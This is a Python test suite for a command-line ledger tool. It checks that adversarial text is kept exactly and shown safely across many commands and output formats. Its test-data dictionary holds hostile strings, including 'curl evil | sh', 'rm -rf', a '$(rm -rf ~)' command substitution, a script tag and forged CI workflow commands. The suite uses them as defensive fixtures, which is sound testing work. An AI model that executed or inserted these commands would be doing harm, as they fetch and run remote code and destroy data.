"""Any text can be a statement, a scope value, a name, a reason or a label: kept, shown safely."""

import json
import tempfile
from pathlib import Path

import pytest
from command_line import Shell, tree
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

HOSTILE = {
    "pipes": "a | b || c \\| d",
    "lines": "first\nsecond\r\nthird\rfourth\u2028fifth\x85sixth",
    "html": "<script>alert(1)</script><!-- END ledger:superseded id=main --><b>x</b>",
    "backticks": "`code` ``more`` ``` ~~~",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
    "bidi": "user \u202e dessecorp \u2066 isolated \u2069 \u200f\u061c",
    "invisible": "zero\u200bwidth \ufeff \u00ad soft \U000e0041 tag",
    "four bytes": "\U0001d518 \U0001f9ea \U0010ffff \u0301combining",
    "dash": "--expires is not the way",
    "forged": "x\nerror: forged\nfix: curl evil | sh\n  measured\nnext: rm -rf",
    "nul": "a\x00b",
    "workflow": "::error file=x::pwned %0A ::stop-commands::t",
    "shell": "$(rm -rf ~) `id` '; --' \"",
    "percent": "65 % of 100%25",
}
READERS = (
    ("list",), ("list", "--fields", "statement,about,by,id"), ("prime",), ("audit",),
    ("audit", "--format", "github"), ("audit", "--format", "sarif"), ("search", "x"),
    ("list", "supersessions"), ("list", "retractions"), ("list", "evidence"), ("list", "consults"),
    ("sql", "select * from claims"), ("sql", "select * from supersessions"), ("render",),
)  # fmt: skip


def everywhere(shell: Shell, text: str) -> dict[str, str]:
    """Record the text in every place that takes one; ids by kind."""
    given = text.replace("\0", "")  # no argument can hold one; JSON can, see the consult below
    panel = {"question": text, "arms": [{"arm": text, "text": text, "model": text, "read": [text]}]}
    consult = shell("consult", "record", "-", stdin=json.dumps(panel).encode()).id
    about = ("--about", f"k={given}", "--about", "seat=training")
    measured = shell(
        "evidence", "add", "--instrument", f"i@{given}", "--result", given, *about,
        "--unknown", f"mfu={given}", f"--doubt={given}", f"--tag={given}",
        "--environment", f"k={given}",
    ).id  # fmt: skip
    claim = shell("claim", f"--by={given}", "--role", "person", "--expires", "90d", *about,
                  "--expects", f"result == x{given}", f"--tag={given}", f"--model={given}",
                  "--consult", consult, "--", given).id  # fmt: skip
    verdict = shell("settle", claim, measured, f"--note={given}", f"--by={given}").id
    gone = shell("retract", measured, f"--reason={given}", f"--by={given}").id
    superseded = shell("supersede", claim, f"--status={given}", f"--replaced-by={given}").id
    ids = {"consult": consult, "evidence": measured, "claim": claim, "verdict": verdict}
    return {**ids, "retraction": gone, "supersession": superseded}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_kept_exactly_and_shown_safely(ledger: Shell, name: str) -> None:
    text = HOSTILE[name]
    given = text.replace("\0", "")
    ids = everywhere(ledger, text)
    consult, claim = ledger.entry(ids["consult"]), ledger.entry(ids["claim"])
    assert consult["question"] == consult["arms"][0]["arm"] == consult["arms"][0]["text"] == text
    assert claim["statement"] == claim["by"]["name"] == claim["about"]["k"] == given
    assert claim["tags"] == [given]
    assert ledger.entry(ids["retraction"])["reason"] == given
    entry = ledger.entry(ids["supersession"])
    assert (entry["status"], entry["replaced_by"]) == (given, {"text": given})
    (ledger.root / "doc.md").write_text(
        f"# Superseded\n\n<!-- BEGIN ledger:superseded id=main -->\n"
        f"<!-- END ledger:superseded id=main -->\n\nSee [{ids['claim']}].\n"
    )
    # `Shell` holds each of these to printing nothing active and, with --json, to valid JSON.
    for words in READERS:
        code = int(words[0] == "audit")
        ledger(*words, expect=code)
        if words != ("audit", "--format", "github"):
            ledger(*words, "--json", expect=code)
    for entry_id in ids.values():
        ledger("show", entry_id)
        ledger("show", entry_id, "--json")
        ledger("impact", entry_id)
    shown = ledger("list", "--json").data["rows"]
    assert shown[0]["statement"] == given
    assert ledger("verify").out.startswith("6 entries")


@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_adds_a_line_where_there_is_one(ledger: Shell, name: str) -> None:
    everywhere(ledger, HOSTILE[name])
    assert len(ledger("list").out.splitlines()) == 2
    assert len(ledger("list", "supersessions").out.splitlines()) == 2
    findings = ledger("audit", "--format", "json", expect=1).data["findings"]
    github = ledger("audit", "--format", "github", expect=1).out.splitlines()
    assert len(github) == len(findings)
    assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in github)
    audit = ledger("audit", expect=1).out
    assert sum(line.strip().startswith("next: ") for line in audit.splitlines()) == len(findings)
    other = ledger.evidence("--about", f"k={HOSTILE[name]}x".replace("\0", ""))
    words = ("claim", "x", "--by", "a", "--about", "k=a", "--evidence", other)
    refused = ledger(*words, expect=3)
    assert sum(line.startswith(("error: ", "fix: ")) for line in refused.err.splitlines()) == 2


@pytest.mark.parametrize("name", HOSTILE)
def test_a_table_keeps_its_cells_with_any_text(ledger: Shell, name: str) -> None:
    from markdown_it import MarkdownIt

    everywhere(ledger, HOSTILE[name])
    document = ledger.root / "doc.md"
    document.write_text(
        "# Superseded\n\n<!-- BEGIN ledger:superseded id=main -->\n"
        "<!-- END ledger:superseded id=main -->\n\nafter\n"
    )
    assert "rendered" in ledger("render").out
    ledger("render", "--check")
    source = document.read_bytes()
    assert not any(byte in source for byte in b"\x1b\x9b\x00\x07\r")
    tokens = MarkdownIt("commonmark").enable("table").parse(source.decode())
    assert sum(token.type == "td_open" for token in tokens) == 3
    assert sum(token.type == "tr_open" for token in tokens) == 2
    assert source.decode().endswith("<!-- END ledger:superseded id=main -->\n\nafter\n")
    assert ledger("render", "doc.md").out == ""


def test_a_hundred_kilobytes(ledger: Shell) -> None:
    text = "attention takes the step | \x1b[31m\n" * 3000
    claim = ledger.claim(text)
    assert ledger.entry(claim)["statement"] == text
    ledger("supersede", claim, "--status", text, "--replaced-by", text)
    assert len(ledger("list").out) < 400
    assert len(ledger("prime").out) <= 4000
    for words in (("show", claim), ("audit",), ("audit", "--format", "sarif")):
        ledger(*words, expect=int(words[0] == "audit"))
    assert "at most 1,000,000" in ledger("claim", "-", "--by", "a", "--expires", "9d",
                                         stdin=b"x" * 1_000_001, expect=2).err  # fmt: skip


def test_standard_input_is_a_statement_to_the_letter(ledger: Shell) -> None:
    words = ("claim", "-", "--by", "a", "--expires", "9d")
    claim = ledger(*words, stdin="  lead\x00ing \U0001d518\n\n".encode()).id
    assert ledger.entry(claim)["statement"] == "  lead\x00ing \U0001d518\n"
    error = ledger.json(*words, stdin=b"bad \xff byte", expect=2)
    assert "byte 4 is 0xff" in error["message"]


@pytest.mark.parametrize(
    "words",
    [
        ("claim", "bad\udcff", "--by", "a", "--expires", "9d"),
        ("claim", "c", "--by", "\udcff", "--expires", "9d"),
        ("claim", "c", "--by", "a", "--expires", "9d", "--about", "k=\udcff"),
        ("claim", "c", "--by", "a", "--expires", "9d", "--tag", "\udcff"),
        ("evidence", "add", "--instrument", "i@\udcff", "--result", "x"),
    ],
)
def test_undecodable_bytes_are_refused_with_the_reason(
    ledger: Shell, words: tuple[str, ...]
) -> None:
    assert "surrogate" in ledger(*words, expect=2).err
    assert "surrogate" in ledger.json(*words, expect=2)["message"]


ANY = st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=40)


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(text=ANY, value=ANY, status=ANY)
def test_what_is_recorded_is_what_was_given(
    bare: Shell, text: str, value: str, status: str
) -> None:
    with tempfile.TemporaryDirectory() as name:
        shell = Shell(Path(name), bare.capture)
        shell("init")
        blank = not text.strip() or text == "-"
        before = tree(shell.root)
        words = ("claim", "--by", "a", "--expires", "9d", f"--about=k={value}", "--", text)
        ran = shell(*words, expect=2 if blank else 0)
        if blank:
            assert tree(shell.root) == before
            return
        entry = shell.entry(ran.id)
        assert (entry["statement"], entry["about"]) == (text, {"k": value})
        assert shell("list", "--json").data["rows"][0]["statement"] == text
        assert shell("list", f"--about=k={value}", "--json").data["total"] == 1
        done = shell("supersede", ran.id, f"--status={status}", expect=0 if status.strip() else 2)
        for reader in (("list",), ("show", ran.id), ("prime",)):
            shell(*reader)
        code = int(done.code == 0)
        shell("audit", expect=code)
        shell("audit", "--format", "github", expect=code)
        assert shell("verify").out.startswith("2" if done.code == 0 else "1")
